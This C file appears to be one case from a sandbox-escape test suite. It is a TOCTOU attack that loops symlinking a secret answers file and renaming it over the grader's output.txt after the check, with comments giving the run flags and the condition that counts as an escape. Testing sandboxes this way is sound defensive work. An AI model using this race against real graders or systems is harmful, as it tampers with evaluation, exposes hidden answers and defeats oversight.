// attack: toctou_symlink
// round: 2 - swap the checked output file for a symlink to the grader's answers after the check
// flags: --no-fork --no-network --clean-env --cpu 5 --mem 256
// evidence: the grader's GRADER/output.txt (a regular file when the run starts) is a symlink to the answers file afterwards
// escaped-if: test -L "$GRADER/output.txt"
#include "attack.h"

int main(int argc, char **argv)
{
	attack_init(argc, argv);
	const char *g = arg("grader"), *secret = arg("secretfile");
	char tmp[1024], dst[1024];
	snprintf(tmp, sizeof tmp, "%s/.swap", g);
	snprintf(dst, sizeof dst, "%s/output.txt", g);
	for (int i = 0; i < 50; i++) {
		unlink(tmp);
		if (symlink(secret, tmp)) {
			say("symlink: %s\n", strerror(errno));
			return 1;
		}
		if (rename(tmp, dst)) {
			say("rename: %s\n", strerror(errno));
			return 1;
		}
	}
	return 0;
}
